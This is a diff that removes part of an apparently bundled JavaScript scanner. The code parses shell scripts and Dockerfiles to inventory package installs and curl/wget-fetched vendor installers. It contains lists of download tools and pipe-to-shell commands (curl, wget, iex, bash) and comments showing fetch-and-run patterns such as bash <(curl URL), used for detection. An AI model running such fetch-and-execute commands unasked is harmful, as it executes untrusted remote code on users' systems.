-                this.scan(text, locate, cmd.heredoc.start, cmd.heredoc.start + cmd.heredoc.body.length, depth + 1);
-                next.consumed = true;
-                continue;
-            }
-            if (!cmd.consumed)
-                this.command(cmd, text, locate, depth);
-        }
-        // Assignments on their own (`V=1`) set variables for the rest of the script.
-        if (commands.length === 1) {
-            const only = prepared[0];
-            if (only.argv.length === 0)
-                for (const [k, v] of only.overlay)
-                    this.env.set(k, v);
-        }
-    }
-    /** Expands a command's words: leading assignments become an overlay, wrappers are removed. */
-    prepare(c) {
-        const overlay = new Map();
-        let words = c.words;
-        let i = 0;
-        for (; i < words.length; i++) {
-            const a = splitAssignment(words[i]);
-            if (!a)
-                break;
-            overlay.set(a.name, expandParts(a.value, this.lookup(overlay)));
-        }
-        words = words.slice(i);
-        const lookup = this.lookup(overlay);
-        let argv = words.map((w) => expandWord(w, lookup));
-        argv = stripWrappers(argv, overlay, lookup);
-        const heredoc = c.redirects.find((r) => r.heredoc)?.heredoc;
-        return { argv, overlay, heredoc, consumed: false, command: c };
-    }
-    command(cmd, text, locate, depth) {
-        const { argv } = cmd;
-        const lookup = this.lookup(cmd.overlay);
-        // Command and process substitutions anywhere in the command are scripts too.
-        for (const w of cmd.command.words)
-            this.substitutions(w, text, locate, depth);
-        if (argv.length === 0) {
-            // A Dockerfile `RUN <<EOF` runs its here-document with the default shell.
-            if (cmd.heredoc)
-                this.scan(text, locate, cmd.heredoc.start, cmd.heredoc.start + cmd.heredoc.body.length, depth + 1);
-            return;
-        }
-        const name = base(argv[0].text);
-        const args = argv.slice(1);
-        if (name === 'export' ||
-            name === 'declare' ||
-            name === 'typeset' ||
-            name === 'local' ||
-            name === 'readonly') {
-            for (const a of cmd.command.words.slice(1)) {
-                const s = splitAssignment(a);
-                if (s)
-                    this.env.set(s.name, expandParts(s.value, lookup));
-            }
-            return;
-        }
-        if (name === 'unset') {
-            for (const a of args)
-                this.env.delete(a.text);
-            return;
-        }
-        if (name === 'alias') {
-            for (const a of args) {
-                const eq = a.text.indexOf('=');
-                if (eq > 0)
-                    this.nested(a.text.slice(eq + 1), locate(a.start), depth);
-            }
-            return;
-        }
-        if (name === 'eval') {
-            if (args.length)
-                this.nested(args.map((a) => a.text).join(' '), locate(args[0].start), depth);
-            return;
-        }
-        if (SHELLS.has(name)) {
-            this.shell(cmd, args, text, locate, depth);
-            return;
-        }
-        if (name === 'source' || name === '.') {
-            if (args[0])
-                this.runScript(args[0], args.slice(1), locate, cmd.overlay);
-            return;
-        }
-        if (name === 'su' || name === 'runuser') {
-            const c = args.findIndex((a) => a.text === '-c' || a.text === '--command');
-            if (c >= 0 && args[c + 1])
-                this.nested(args[c + 1].text, locate(args[c + 1].start), depth);
-            return;
-        }
-        if (isFetcher(name)) {
-            this.fetch(argv, locate);
-            return;
-        }
-        // A command word with a slash runs that file: `./setup.sh`, `.devcontainer/post-create.sh`.
-        if (this.downloads.has(argv[0].text) || /^\S*\/\S*\.(sh|bash)$/.test(argv[0].text)) {
-            this.runScript(argv[0], args, locate, cmd.overlay);
-            return;
-        }
-        const found = recognise(name, args);
-        if (found.length > 0) {
-            for (const f of found)
-                if (f.finding)
-                    this.findings.push({ ...f.finding, line: locate(f.at) });
-            for (const n of found)
-                if (n.nested)
-                    this.nested(n.nested.text, locate(n.nested.at), depth);
-            return;
-        }
-        if (name === 'echo' || name === 'printf') {
-            // `echo "alias claude='npx claude'" >> ~/.bashrc` defines how the tool runs later.
-            for (const a of args)
-                if (/^\s*alias\s+[\w.-]+=/.test(a.text))
-                    this.nested(a.text, locate(a.start), depth);
-            return;
-        }
-        if (NON_EXECUTING.has(name))
-            return;
-        // A helper function or tool given a command string: `run_command "npm install -g x"`.
-        for (const a of args) {
-            if (/\s/.test(a.text) && COMMAND_WORD.test(a.text.trimStart()))
-                this.nested(a.text, locate(a.start), depth);
-        }
-    }
-    substitutions(w, text, locate, depth) {
-        for (const p of w.parts) {
-            if (p.k === 'opaque' && p.script)
-                this.scan(text, locate, p.script.start, p.script.start + p.script.text.length, depth + 1);
-        }
-    }
-    /** Scans a command string built at run time; its findings sit at `line` plus its own newlines. */
-    nested(script, line, depth) {
-        if (depth >= 8)
-            return;
-        const starts = [];
-        let nl = script.indexOf('\n');
-        while (nl !== -1) {
-            starts.push(nl);
-            nl = script.indexOf('\n', nl + 1);
-        }
-        const locate = (o) => {
-            let lo = 0;
-            let hi = starts.length;
-            while (lo < hi) {
-                const mid = (lo + hi) >> 1;
-                if (starts[mid] < o)
-                    lo = mid + 1;
-                else
-                    hi = mid;
-            }
-            return line + lo;
-        };
-        this.scan(script, locate, 0, script.length, depth + 1);
-    }
-    shell(cmd, args, text, locate, depth) {
-        // `bash -c 'script' [$0 args…]`, `bash -lc …`, `bash -euxo pipefail -c …`
-        let i = 0;
-        let cScript;
-        for (; i < args.length; i++) {
-            const a = args[i].text;
-            if (a === '--') {
-                i++;
-                break;
-            }
-            if (/^[-+][a-zA-Z]*[oO]$/.test(a) && !a.includes('c')) {
-                i++;
-                continue;
-            }
-            if (/^-[a-zA-Z]*c[a-zA-Z]*$/.test(a) && !a.startsWith('--')) {
-                cScript = args[i + 1];
-                break;
-            }
-            if (!a.startsWith('-') && !a.startsWith('+'))
-                break;
-        }
-        if (cScript) {
-            const fetched = fetchInSubstitution(cScript.word, this.lookup(cmd.overlay));
-            if (fetched) {
-                this.reportInstaller(fetched.text, locate(cScript.start), args.slice(args.indexOf(cScript) + 1), cmd.overlay);
-                return;
-            }
-            this.nested(cScript.text, locate(cScript.start), depth);
-            return;
-        }
-        const first = args[i];
-        if (first) {
-            // `bash <(curl -fsSL URL) ARGS`
-            const fetched = fetchInSubstitution(first.word, this.lookup(cmd.overlay));
-            if (fetched) {
-                this.reportInstaller(fetched.text, locate(first.start), args.slice(i + 1), cmd.overlay);
-                return;
-            }
-            this.runScript(first, args.slice(i + 1), locate, cmd.overlay);
-            return;
-        }
-        if (cmd.heredoc) {
-            this.scan(text, locate, cmd.heredoc.start, cmd.heredoc.start + cmd.heredoc.body.length, depth + 1);
-        }
-    }
-    /** A script run by path: a fetched installer, or a repository script to read. */
-    runScript(path, args, locate, overlay) {
-        const d = this.downloads.get(path.text) ?? this.downloads.get(basename(path.text));
-        if (d) {
-            d.used = true;
-            this.reportInstaller(d.url, locate(path.start), args, overlay);
-            return;
-        }
-        // `${containerWorkspaceFolder}/x.sh` is a path in the repository too.
-        const inWorkspace = /^\$\{(containerWorkspaceFolder|localWorkspaceFolder)\}\/[\w./-]+$/.test(path.text);
-        if ((!path.unknown && /^[\w./-]+$/.test(path.text)) || inWorkspace)
-            this.scriptRuns.push({ path: path.text, line: locate(path.start) });
-    }
-    fetch(argv, locate) {
-        const url = fetchUrl(argv);
-        if (!url)
-            return;
-        const out = fetchOutput(argv, url.text);
-        if (out) {
-            const line = locate(url.start);
-            const rec = { url: url.text, line, used: false };
-            this.downloads.set(out, rec);
-            if (!this.downloads.has(basename(out)))
-                this.downloads.set(basename(out), rec);
-            if (releaseDownload(url.text)) {
-                rec.used = true;
-                this.reportFetched(url.text, line);
-            }
-            return;
-        }
-        if (releaseDownload(url.text))
-            this.reportFetched(url.text, locate(url.start));
-    }
-    /** A fetched URL that is not run by a shell we can see: a release download or a known installer. */
-    reportFetched(url, line) {
-        const rel = releaseDownload(url);
-        const name = installerName(url);
-        if (name && vendorInstaller(name)) {
-            this.findings.push({
-                ecosystem: 'installer',
-                name,
-                version: null,
-                spec: 'latest',
-                sourceKind: 'url',
-                resolved: url,
-                line,
-            });
-            return;
-        }
-        if (!rel)
-            return;
-        this.findings.push({
-            ecosystem: 'installer',
-            name: rel.name,
-            version: rel.version,
-            ...(rel.version === null ? { spec: rel.spec ?? 'latest' } : {}),
-            sourceKind: 'url',
-            resolved: url,
-            line,
-        });
-    }
-    /** Records the vendor installer at `url` run by a shell with `args` and the given environment. */
-    reportInstaller(url, line, args, overlay) {
-        const name = installerName(url);
-        if (!name)
-            return;
-        const positional = args.filter((a) => !a.text.startsWith('-'));
-        const vendor = vendorInstaller(name);
-        let value;
-        if (vendor) {
-            const v = vendor.version;
-            if (v.kind === 'positional')
-                value = positional[0];
-            else if (v.kind === 'env')
-                value = overlay.get(v.name) ?? this.env.get(v.name);
-            else if (v.kind === 'flag') {
-                const i = args.findIndex((a) => a.text === v.flag);
-                value = i >= 0 ? args[i + 1] : args.find((a) => a.text.startsWith(v.flag + '='));
-                if (value && value.text.startsWith(v.flag + '='))
-                    value = { ...value, text: value.text.slice(v.flag.length + 1) };
-            }
-        }
-        else if (positional.length > 0) {
-            value = { text: positional.map((a) => a.text).join(' '), unknown: positional.some((a) => a.unknown) };
-        }
-        let version = null;
-        let spec = 'latest';
-        if (value && value.text !== '') {
-            version = value.unknown
-                ? null
-                : (exactVersion(value.text) ?? (vendor ? versionFromTag(value.text) : null));
-            spec = value.text;
-        }
-        this.findings.push({
-            ecosystem: 'installer',
-            name,
-            version,
-            ...(version === null ? { spec } : {}),
-            sourceKind: 'url',
-            resolved: url,
-            line,
-        });
-    }
-}
-const SHELLS = new Set(['sh', 'bash', 'zsh', 'dash', 'ash', 'ksh', 'mksh']);
-const FETCHERS = new Set(['curl', 'wget', 'irm', 'iwr', 'invoke-restmethod', 'invoke-webrequest']);
-/** Commands that run a script read from a pipe: POSIX shells and PowerShell's Invoke-Expression. */
-const PIPE_SHELLS = new Set([...SHELLS, 'iex', 'invoke-expression', 'python', 'python3']);
-function isFetcher(cmd) {
-    return FETCHERS.has(base(cmd).toLowerCase());
-}
-function isPipeShell(cmd) {
-    return PIPE_SHELLS.has(base(cmd).toLowerCase());
-}
-/** Commands whose string arguments are data, not commands to run. */
-const NON_EXECUTING = new Set([
-    'echo',
-    'printf',
-    'print',
-    'cat',
-    'tee',
-    'grep',
-    'egrep',
-    'fgrep',
-    'rg',
-    'sed',
-    'awk',
-    'test',
-    '[',
-    '[[',
-    'read',
-    'git',
-    'jq',
-    'yq',
-    'trap',
-    'logger',
-    'case',
-    'for',
-    'select',
-    'function',
-]);
-const COMMAND_WORD = /^(sudo\s+)?(npm|npx|pnpm|pnpx|yarn|bun|bunx|volta|deno|pip|pip3|pipx|python3?|uv|uvx|brew|curl|wget|sh|bash|zsh)\s/;
-function base(cmd) {
-    const s = cmd.lastIndexOf('/');
-    return s === -1 ? cmd : cmd.slice(s + 1);
-}
-function basename(p) {
-    const s = p.lastIndexOf('/');
-    return s === -1 ? p : p.slice(s + 1);
-}
-/** Removes `sudo`, `env`, `exec`, `nohup`, `time`, `command`, `timeout N`, … in front of a command. */
-function stripWrappers(argv, overlay, lookup) {
-    for (let guard = 0; guard < 16 && argv.length > 0; guard++) {
-        const w = base(argv[0].text);
-        let i = 1;
-        if (w === 'sudo' || w === 'doas') {
-            while (i < argv.length && argv[i].text.startsWith('-')) {
-                const f = argv[i].text;
-                i += /^-[ugrtCDhpU]$/.test(f) || f === '--user' || f === '--group' ? 2 : 1;
-                if (f === '--')
-                    break;
-            }
-        }
-        else if (w === 'env') {
-            while (i < argv.length) {
-                const t = argv[i].text;
-                if (t === '-u' || t === '-C' || t === '-S')
-                    i += 2;
-                else if (t.startsWith('-'))
-                    i++;
-                else if (/^[A-Za-z_][A-Za-z0-9_]*=/.test(t)) {
-                    const a = splitAssignment(argv[i].word);
-                    if (a)
-                        overlay.set(a.name, expandParts(a.value, lookup));
-                    i++;
-                }
-                else
-                    break;
-            }
-        }
-        else if (w === 'timeout') {
-            while (i < argv.length && argv[i].text.startsWith('-'))
-                i++;
-            i++;
-        }
-        else if (w === 'nice' || w === 'ionice' || w === 'stdbuf') {
-            while (i < argv.length && argv[i].text.startsWith('-'))
-                i += /^-[nc]$/.test(argv[i].text) ? 2 : 1;
-        }
-        else if (w === 'gosu' || w === 'su-exec') {
-            i = 2;
-        }
-        else if (w === 'runuser' && argv.some((a) => a.text === '--')) {
-            i = argv.findIndex((a) => a.text === '--') + 1;
-        }
-        else if (![
-            'exec',
-            'nohup',
-            'time',
-            'corepack',
-            'command',
-            'builtin',
-            'xargs',
-            'retry',
-            'then',
-            'do',
-            'else',
-        ].includes(w)) {
-            break;
-        }
-        else {
-            while (i < argv.length && argv[i].text.startsWith('-') && w !== 'exec')
-                i++;
-        }
-        argv = argv.slice(i);
-    }
-    return argv;
-}
-/** The URL a curl/wget command fetches. */
-function fetchUrl(argv) {
-    const explicit = argv.slice(1).find((a) => /^https?:\/\//i.test(a.text));
-    if (explicit)
-        return explicit;
-    // curl and wget default to http:// for `host.tld/path` (`curl -L code.kimi.com/install.sh`).
-    const bare = argv.slice(1).find((a) => /^[A-Za-z0-9-]+(\.[A-Za-z0-9-]+)*\.[A-Za-z]{2,}\/\S*$/.test(a.text));
-    return bare ? { ...bare, text: 'https://' + bare.text } : undefined;
-}
-/** Where a curl/wget command writes what it fetches; null when it writes to stdout. */
-function fetchOutput(argv, url) {
-    const isCurl = base(argv[0].text) === 'curl';
-    let dir = '';
-    let out = isCurl ? null : basename(url.replace(/[?#].*$/, ''));
-    for (let i = 1; i < argv.length; i++) {
-        const t = argv[i].text;
-        const nextText = argv[i + 1]?.text;
-        if (isCurl) {
-            if (t === '-o' || t === '--output')
-                out = nextText ?? null;
-            else if (t.startsWith('--output='))
-                out = t.slice(9);
-            else if (t === '-O' ||
-                t === '--remote-name' ||
-                (/^-[a-zA-Z]+$/.test(t) && t.includes('O') && !t.includes('o')))
-                out = basename(url.replace(/[?#].*$/, ''));
-            else if (/^-[a-zA-Z]+o$/.test(t))
-                out = nextText ?? null;
-            else if (t === '--output-dir')
-                dir = (nextText ?? '') + '/';
-        }
-        else {
-            if (t === '-O' || t === '--output-document')
-                out = nextText ?? null;
-            else if (t.startsWith('--output-document='))
-                out = t.slice(18);
-            else if (/^-[a-zA-Z]*O$/.test(t))
-                out = nextText ?? null;
-            else if (t === '-P' || t === '--directory-prefix')
-                dir = (nextText ?? '') + '/';
-        }
-    }
-    if (out === '-' || out === '/dev/stdout')
-        return null;
-    return out === null ? null : dir && !out.startsWith('/') ? dir + out : out;
-}
-/** `$(curl -fsSL URL)` / `<(curl URL)` in a word: the URL fetched. */
-function fetchInSubstitution(w, lookup) {
-    for (const p of w.parts) {
-        if (p.k !== 'opaque' || !p.script)
-            continue;
-        const parsed = parseShell(p.script.text);
-        const c = parsed.pipelines[0]?.commands[0];
-        if (!c)
-            continue;
-        const argv = c.words.map((x) => expandWord(x, lookup));
-        if (argv.length && isFetcher(argv[0].text)) {
-            const u = fetchUrl(argv);
-            if (u)
-                return { text: u.text };
-        }
-    }
-    return null;
-}
-const NPM_VALUE_FLAGS = new Set([
-    '--prefix',
-    '--registry',
-    '--tag',
-    '-w',
-    '--workspace',
-    '--omit',
-    '--include',
-    '--install-strategy',
-    '--loglevel',
-    '--cache',
-    '--userconfig',
-    '--globalconfig',
-    '--before',
-    '--location',
-    '--dir',
-    '-C',
-    '--filter',
-    '--network-timeout',
-    '--cwd',
-    '--modules-folder',
-    '--cache-folder',
-    '--global-folder',
-    '--config',
-    '--backend',
-    '--node-options',
-    '--shell',
-    '--script-shell',
-    '--mutex',
-]);
-/** Positional arguments after option flags (flags listed in `valued` take the next word). */
-function positionals(args, valued) {
-    const out = [];
-    for (let i = 0; i < args.length; i++) {
-        const t = args[i].text;
-        if (t === '--') {
-            out.push(...args.slice(i + 1));
-            break;
-        }
-        if (t.startsWith('-')) {
-            if (valued.has(t))
-                i++;
-            continue;
-        }
-        out.push(args[i]);
-    }
-    return out;
-}
-function npmFinding(a, spec, tag) {
-    if (!spec)
-        return null;
-    const s = tag && spec.version === null && spec.spec === 'latest' ? { ...spec, spec: tag } : spec;
-    return {
-        at: a.start,
-        finding: {
-            ecosystem: 'npm',
-            name: s.name,
-            version: s.version,
-            ...(s.version === null ? { spec: s.spec ?? 'latest' } : {}),
-            sourceKind: 'registry',
-            ...(s.alias ? { alias: s.alias } : {}),
-        },
-    };
-}
-function npmInstalls(args) {
-    const tagI = args.findIndex((a) => a.text === '--tag');
-    const tag = tagI >= 0 ? args[tagI + 1]?.text : undefined;
-    const out = [];
-    for (const a of positionals(args, NPM_VALUE_FLAGS)) {
-        if (a.unknown && !/^@?[\w.-]+(\/[\w.-]+)?@/.test(a.text))
-            continue;
-        const r = npmFinding(a, parseNpmSpec(a.text, a.unknown), tag);
-        if (r)
-            out.push(r);
-    }
-    return out;
-}
-function pypiFinding(a, spec) {
-    if (!spec)
-        return null;
-    return {
-        at: a.start,
-        finding: {
-            ecosystem: 'pypi',
-            name: spec.name,
-            version: spec.version,
-            ...(spec.version === null ? { spec: spec.spec ?? 'latest' } : {}),
-            sourceKind: 'registry',
-        },
-    };
-}
-const PIP_VALUE_FLAGS = new Set([
-    '-r',
-    '--requirement',
-    '-c',
-    '--constraint',
-    '-e',
-    '--editable',
-    '-i',
-    '--index-url',
-    '--extra-index-url',
-    '--index',
-    '--default-index',
-    '-f',
-    '--find-links',
-    '-t',
-    '--target',
-    '--prefix',
-    '--root',
-    '--trusted-host',
-    '--platform',
-    '--python-version',
-    '--implementation',
-    '--abi',
-    '--src',
-    '--upgrade-strategy',
-    '--progress-bar',
-    '--log',
-    '--cache-dir',
-    '--python',
-    '-p',
-    '--python-preference',
-    '--with',
-    '--from',
-    '--spec',
-    '--pip-args',
-    '--suffix',
-    '--index-strategy',
-    '--keyring-provider',
-    '--resolution',
-    '--prerelease',
-    '--exclude-newer',
-    '--with-requirements',
-    '--with-editable',
-    '--directory',
-    '--project',
-    '--extra',
-    '--group',
-    '--only-binary',
-    '--no-binary',
-]);
-function pipInstalls(args, atVersion = false) {
-    const out = [];
-    for (let i = 0; i < args.length; i++) {
-        const t = args[i].text;
-        if ((t === '--with' || t === '--from') && args[i + 1]) {
-            const r = pypiFinding(args[i + 1], parsePypiSpec(args[i + 1].text, args[i + 1].unknown, atVersion));
-            if (r)
-                out.push(r);
-        }
-    }
-    for (const a of positionals(args, PIP_VALUE_FLAGS)) {
-        if (/^[./~]/.test(a.text) || a.text.includes('://') || /\.(whl|tar\.gz|zip)$/.test(a.text))
-            continue;
-        const r = pypiFinding(a, parsePypiSpec(a.text, a.unknown, atVersion));
-        if (r)
-            out.push(r);
-    }
-    return out;
-}
-/** The package run by a one-off runner (npx, npm exec, pnpm dlx, yarn dlx, bunx). */
-function npxRun(args) {
-    const out = [];
-    const packages = [];
-    let call;
-    let i = 0;
-    for (; i < args.length; i++) {
-        const t = args[i].text;
-        if (t === '--') {
-            i++;
-            break;
-        }
-        if (t === '-p' || t === '--package') {
-            if (args[i + 1])
-                packages.push(args[i + 1]);
-            i++;
-        }
-        else if (t.startsWith('--package=')) {
-            packages.push({ ...args[i], text: t.slice(10) });
-        }
-        else if (t === '-c' || t === '--call') {
-            call = args[i + 1];
-            i++;
-        }
-        else if (NPM_VALUE_FLAGS.has(t))
-            i++;
-        else if (!t.startsWith('-'))
-            break;
-    }
-    if (packages.length > 0) {
-        for (const p of packages) {
-            const r = npmFinding(p, parseNpmSpec(p.text, p.unknown));
-            if (r)
-                out.push(r);
-        }
-    }
-    else if (args[i] && !call) {
-        const r = npmFinding(args[i], parseNpmSpec(args[i].text, args[i].unknown));
-        if (r)
-            out.push(r);
-    }
-    if (call)
-        out.push({ at: call.start, nested: { text: call.text, at: call.start } });
-    return out;
-}
-/** Recognises the package-manager command `name args…`. */
-function recognise(name, args) {
-    const sub = args[0]?.text;
-    const rest = args.slice(1);
-    switch (name) {
-        case 'npm':
-            if (sub &&
-                /^(install|i|add|in|ins|inst|insta|instal|isnt|isntall|install-test|it|update|up|upgrade)$/.test(sub))
-                return npmInstalls(rest);
-            if (sub === 'exec' || sub === 'x')
-                return npxRun(rest);
-            return [];
-        case 'npx':
-        case 'pnpx':
-        case 'bunx':
-            return npxRun(args);
-        case 'pnpm':
-            if (sub === 'add' || sub === 'install' || sub === 'i' || sub === 'update' || sub === 'up')
-                return npmInstalls(rest);
-            if (sub === 'dlx')
-                return npxRun(rest);
-            return [];
-        case 'yarn':
-            if (sub === 'global' && args[1]?.text === 'add')
-                return npmInstalls(args.slice(2));
-            if (sub === 'add')
-                return npmInstalls(rest);
-            if (sub === 'dlx')
-                return npxRun(rest);
-            return [];
-        case 'bun':
-            if (sub === 'add' || sub === 'install' || sub === 'i' || sub === 'a')
-                return npmInstalls(rest);
-            if (sub === 'x')
-                return npxRun(rest);
-            return [];
-        case 'volta':
-            return sub === 'install'
-                ? npmInstalls(rest).filter((r) => !['node', 'npm', 'yarn', 'pnpm'].includes(r.finding?.name ?? ''))
-                : [];
-        case 'deno':
-            return args
-                .filter((a) => a.text.startsWith('npm:'))
-                .map((a) => npmFinding(a, parseNpmSpec(a.text.slice(4), a.unknown)))
-                .filter((r) => r !== null);
-        case 'uv':
-            if (sub === 'pip' && args[1]?.text === 'install')
-                return pipInstalls(args.slice(2));
-            if (sub === 'tool' && (args[1]?.text === 'install' || args[1]?.text === 'upgrade'))
-                return pipInstalls(args.slice(2), true);
-            if (sub === 'tool' && args[1]?.text === 'run')
-                return uvxRun(args.slice(2));
-            if (sub === 'add')
-                return pipInstalls(rest);
-            return [];
-        case 'uvx':
-            return uvxRun(args);
-        case 'pipx':
-            if (sub === 'install' || sub === 'upgrade')
-                return pipInstalls(rest);
-            if (sub === 'run')
-                return pipxRun(rest);
-            return [];
-        case 'brew':
-            if (sub === 'install' || sub === 'reinstall' || sub === 'upgrade')
-                return brewInstalls(rest);
-            return [];
-        default:
-            if (/^pip(\d+(\.\d+)?)?$/.test(name))
-                return sub === 'install' ? pipInstalls(rest) : [];
-            if (/^python(\d+(\.\d+)?)?$/.test(name)) {
-                const m = args.findIndex((a) => a.text === '-m');
-                if (m >= 0 && /^pip$/.test(args[m + 1]?.text ?? '') && args[m + 2]?.text === 'install')
-                    return pipInstalls(args.slice(m + 3));
-                if (m >= 0 && args[m + 1]?.text === 'pipx' && args[m + 2]?.text === 'install')
-                    return pipInstalls(args.slice(m + 3));
-            }
-            return [];
-    }
-}
-function uvxRun(args) {
-    const from = args.findIndex((a) => a.text === '--from');
-    if (from >= 0)
-        return pipInstalls(args.slice(from, from + 2), true);
-    const fromEq = args.find((a) => a.text.startsWith('--from='));
-    if (fromEq) {
-        const a = { ...fromEq, text: fromEq.text.slice(7) };
-        const r = pypiFinding(a, parsePypiSpec(a.text, a.unknown, true));
-        return r ? [r] : [];
-    }
-    const pos = positionals(args, PIP_VALUE_FLAGS)[0];
-    if (!pos)
-        return [];
-    const r = pypiFinding(pos, parsePypiSpec(pos.text, pos.unknown, true));
-    return r ? [r] : [];
-}
-function pipxRun(args) {
-    const spec = args.findIndex((a) => a.text === '--spec');
-    const target = spec >= 0 ? args[spec + 1] : positionals(args, PIP_VALUE_FLAGS)[0];
-    if (!target)
-        return [];
-    const r = pypiFinding(target, parsePypiSpec(target.text, target.unknown));
-    return r ? [r] : [];
-}
-function brewInstalls(args) {
-    const cask = args.some((a) => a.text === '--cask' || a.text === '--casks');
-    const out = [];
-    for (const a of positionals(args, new Set(['--appdir', '--fontdir', '--language']))) {
-        if (a.unknown || !/^[\w@+./-]+$/.test(a.text))
-            continue;
-        out.push({
-            at: a.start,
-            finding: {
-                ecosystem: 'homebrew',
-                name: a.text,
-                version: null,
-                spec: 'latest',
-                sourceKind: 'registry',
-                resolved: cask ? 'cask' : 'formula',
-            },
-        });
-    }
-    return out;
-}
-
-;// CONCATENATED MODULE: ./src/util/lines.ts
-/**
- * Maps character offsets to 1-based lines and columns in O(log n) per look-up, after one
- * O(n) pass that records where each line starts. Build one per file, not per look-up.
- */
-class LineIndex {
-    starts = [0];
-    constructor(text) {
-        let i = text.indexOf('\n');
-        while (i !== -1) {
-            this.starts.push(i + 1);
-            i = text.indexOf('\n', i + 1);
-        }
-    }
-    get lineCount() {
-        return this.starts.length;
-    }
-    /** 1-based line of a 0-based offset. */
-    line(offset) {
-        let lo = 0;
-        let hi = this.starts.length - 1;
-        while (lo < hi) {
-            const mid = (lo + hi + 1) >> 1;
-            if (this.starts[mid] <= offset)
-                lo = mid;
-            else
-                hi = mid - 1;
-        }
-        return lo + 1;
-    }
-    /** 1-based column of a 0-based offset. */
-    column(offset) {
-        return offset - this.starts[this.line(offset) - 1] + 1;
-    }
-    /** 0-based offset of the start of a 1-based line. */
-    offsetOfLine(line) {
-        return this.starts[Math.max(0, Math.min(line - 1, this.starts.length - 1))];
-    }
-}
-
-;// CONCATENATED MODULE: ./src/detectors/dockerfile-instructions.ts
-// Splits a Dockerfile into instructions: keyword, where its arguments start and where it ends,
-// across escaped line continuations (with the comment and blank lines the builder drops inside
-// them) and here-documents. One linear pass. dockerfile-ast does the same but takes seconds on a
-// megabyte-long instruction (7 s for a 1 MB RUN line, measured); test/detectors/dockerfile-
-// instructions.test.ts checks this splitter against dockerfile-ast on every fixture.
-const HEREDOC = /<<(-?)\s*(["']?)([A-Za-z_][A-Za-z0-9_]*)\2/g;
-function escapeCharacter(text) {
-    // Parser directives sit at the very top, before any instruction, comment or blank line.
-    for (const raw of text.split('\n', 8)) {
-        const m = /^#\s*([a-z]+)\s*=\s*(\S*)\s*$/i.exec(raw.replace(/\r$/, ''));
-        if (!m)
-            break;
-        if (m[1].toLowerCase() === 'escape' && m[2] === '`')
-            return '`';
-    }
-    return '\\';
-}
-function splitInstructions(text, escape = escapeCharacter(text)) {
-    const out = [];
-    const n = text.length;
-    let i = 0;
-    const lineEnd = (at) => {
-        const nl = text.indexOf('\n', at);
-        return nl === -1 ? n : nl;
-    };
-    const endsWithEscape = (from, to) => {
-        let k = to;
-        while (k > from && (text[k - 1] === ' ' || text[k - 1] === '\t' || text[k - 1] === '\r'))
-            k--;
-        return k > from && text[k - 1] === escape;
-    };
-    while (i < n) {
-        const le = lineEnd(i);
-        let s = i;
-        while (s < le && (text[s] === ' ' || text[s] === '\t' || text[s] === '\r'))
-            s++;
-        if (s >= le || text[s] === '#') {
-            i = le + 1;
-            continue;
-        }
-        let k = s;
-        while (k < le && /[A-Za-z]/.test(text[k]))
-            k++;
-        const keyword = text.slice(s, k).toUpperCase();
-        let argsStart = k;
-        while (argsStart < le && (text[argsStart] === ' ' || text[argsStart] === '\t'))
-            argsStart++;
-        // Follow continuations.
-        let lastStart = i;
-        let lastEnd = le;
-        while (endsWithEscape(lastStart, lastEnd) && lastEnd < n) {
-            let next = lastEnd + 1;
-            // Comment and blank lines inside a continuation are dropped by the builder.
-            for (;;) {
-                const ne = lineEnd(next);
-                if (next < n && /^\s*(#.*)?$/.test(text.slice(next, ne)) && ne < n)
-                    next = ne + 1;
-                else
-                    break;
-            }
-            lastStart = next;
-            lastEnd = lineEnd(next);
-            if (next >= n)
-                break;
-        }
-        let end = lastEnd;
-        // Here-documents start on the line after the instruction.
-        const head = text.slice(argsStart, lastEnd);
-        if (head.includes('<<') &&
-            (keyword === 'RUN' || keyword === 'COPY' || keyword === 'ADD' || keyword === 'ONBUILD')) {
-            for (const m of head.matchAll(HEREDOC)) {
-                const strip = m[1] === '-';
-                const word = m[3];
-                let p = end + 1;
-                let found = false;
-                while (p <= n) {
-                    const pe = lineEnd(p);
-                    let l = text.slice(p, pe).replace(/\r$/, '');
-                    if (strip)
-                        l = l.replace(/^\t+/, '');
-                    if (l === word) {
-                        end = pe;
-                        found = true;
-                        break;
-                    }
-                    if (pe >= n)
-                        break;
-                    p = pe + 1;
-                }
-                if (!found)
-                    end = n;
-            }
-        }
-        out.push({
-            keyword,
-            start: s,
-            argsStart: Math.min(argsStart, end),
-            end: end > 0 && text[end - 1] === '\r' ? end - 1 : end,
-        });
-        i = end + 1;
-    }
-    return out;
-}
-
-;// CONCATENATED MODULE: ./src/detectors/dockerfile.ts
-// Dockerfiles (`Dockerfile`, `*.Dockerfile`, `Dockerfile.*`, `Containerfile`): installs in RUN
-// instructions, with ARG defaults, build args given by a devcontainer or compose file, ENV values,
-// multi-stage inheritance, line continuations, comment lines inside continuations, here-documents,
-// exec form, and ADD of release URLs. Instructions come from dockerfile-ast; RUN bodies are read
-// by our shell tokenizer.
-
-
-
-
-
-
-const DOCKERFILE_SOURCE = 'Dockerfile';
-function isDockerfilePath(path) {
-    const name = path.slice(path.lastIndexOf('/') + 1);
-    if (/\.dockerignore$/i.test(name))
-        return false;
-    return /^(Dockerfile|Containerfile)(\.[^/]+)?$/i.test(name) || /\.(Dockerfile|Containerfile)$/i.test(name);
-}
-/** Scans one Dockerfile's text and reports its installs, located in `file`. */
-function scanDockerfile(text, file, options = {}) {
-    const components = [];
-    const errors = [];
-    const lines = new LineIndex(text);
-    const offsetLine = (options.firstLine ?? 1) - 1;
-    const locate = (o) => lines.line(o) + offsetLine;
-    const buildArgs = options.buildArgs ?? new Map();
-    const escape = escapeCharacter(text);
-    const globals = new Map();
-    const stages = [];
-    let stage = null;
-    const scanner = new CommandScanner();
-    for (const ins of splitInstructions(text, escape)) {
-        const keyword = ins.keyword;
-        const { argsStart, end } = ins;
-        const vars = stage ? stage.vars : globals;
-        const lookup = (n) => vars.get(n);
-        switch (keyword) {
-            case 'FROM': {
-                const args = wordsOf(text, argsStart, end, escape).map((w) => w.raw);
-                const asI = args.findIndex((a) => a.toUpperCase() === 'AS');
-                const image = args.find((a) => !a.startsWith('--')) ?? '';
-                const parent = stages.find((s) => s.name !== undefined && s.name === image.toLowerCase());
-                stage = {
-                    name: asI >= 0 ? args[asI + 1]?.toLowerCase() : undefined,
-                    vars: new Map(parent?.vars ?? []),
-                };
-                stages.push(stage);
-                break;
-            }
-            case 'ARG': {
-                for (const w of wordsOf(text, argsStart, end, escape)) {
-                    const eq = w.raw.indexOf('=');
-                    const name = eq === -1 ? w.raw : w.raw.slice(0, eq);
-                    if (!/^[A-Za-z_][A-Za-z0-9_]*$/.test(name))
-                        continue;
-                    let value;
